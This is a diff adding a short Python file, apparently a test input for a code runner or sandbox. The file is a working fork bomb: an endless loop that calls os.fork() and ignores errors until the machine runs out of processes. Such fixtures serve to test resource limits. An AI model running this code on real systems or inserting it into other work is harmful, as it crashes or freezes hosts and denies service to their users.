@@ -1,0 +1,11 @@
+# mode: stdin
+# ruff: noqa
+"""Forks without end."""
+
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
